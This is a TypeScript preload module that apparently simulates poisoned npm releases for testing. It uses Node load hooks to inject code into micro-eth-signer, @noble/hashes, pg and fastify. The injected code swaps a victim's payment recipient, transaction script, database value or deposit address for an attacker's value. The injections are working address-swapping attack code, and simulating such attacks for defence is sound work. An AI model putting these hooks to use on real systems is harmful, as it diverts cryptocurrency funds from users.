import { registerHooks } from 'node:module';

/**
 * Preloaded into a server (`node --import`): one of its packages has other code when it is loaded, as after a poisoned
 * release of it. The parameters of this file's URL name the package, what it looks for (in lower case where case does not
 * count), and what it puts in its place.
 */
const { searchParams } = new URL(import.meta.url);
const [name, victim, thief] = ['package', 'from', 'to'].map((key) => JSON.stringify(searchParams.get(key) ?? ''));

/** File of the package, and the code that is put around a place of it. */
const poisons: Readonly<Record<string, { readonly file: string; readonly found: string; readonly written: string }>> = {
  // Encodes calls of contracts: another recipient in the calldata of a token.
  '"micro-eth-signer"': {
    file: '/node_modules/micro-eth-signer/abi/decoder.js',
    found: 'export function createContract(abi, net, contract) {',
    written: `export function createContract(...given) {
      const made = unpoisoned(...given);
      for (const one of Object.values(made)) {
        const encode = one.encodeInput;
        if (encode) one.encodeInput = (input) =>
          encode(String(input?.to).toLowerCase() === ${victim} ? { ...input, to: ${thief} } : input);
      }
      return made;
    }
    function unpoisoned(abi, net, contract) {`,
  },
  // Reads hexadecimal: another script in the bytes of a Bitcoin transaction.
  '"@noble/hashes"': {
    file: '/node_modules/@noble/hashes/utils.js',
    found: 'export function hexToBytes(hex) {',
    written: `export function hexToBytes(hex) {
      if (hex === ${victim}) hex = ${thief};`,
  },
  // Reads the database: another destination in the row, in the intent and in everything that is made of them.
  '"pg"': {
    file: '/node_modules/pg/lib/result.js',
    found: 'const rawValue = rowData[i]\n      const field',
    written: `const given = rowData[i]
      const rawValue = typeof given === 'string' ? given.replace(new RegExp(${victim}, 'gi'), ${thief}) : given
      const field`,
  },
  // Answers requests: another deposit address in what the integrator reads.
  '"fastify"': {
    file: '/node_modules/fastify/fastify.js',
    found: "'use strict'\n",
    written: `'use strict'
    const { ServerResponse } = require('node:http')
    const unpoisoned = ServerResponse.prototype.end
    ServerResponse.prototype.end = function (chunk, ...rest) {
      const text = typeof chunk === 'string' ? chunk.replaceAll(${victim}, ${thief}) : chunk
      return unpoisoned.call(this, text, ...rest)
    }
`,
  },
};

const poison = poisons[name!];
if (!poison) throw new Error(`no poison for ${name}`);

registerHooks({
  load(url, context, nextLoad) {
    const loaded = nextLoad(url, context);
    if (!url.endsWith(poison.file)) return loaded;
    const { source } = loaded;
    const text = typeof source === 'string' ? source : new TextDecoder().decode(source ?? undefined);
    const parts = text.split(poison.found);
    if (parts.length < 2) throw new Error(`${url} has no ${poison.found}`);
    // The first place alone.
    return { ...loaded, source: `${parts[0]}${poison.written}${parts.slice(1).join(poison.found)}` };
  },
});
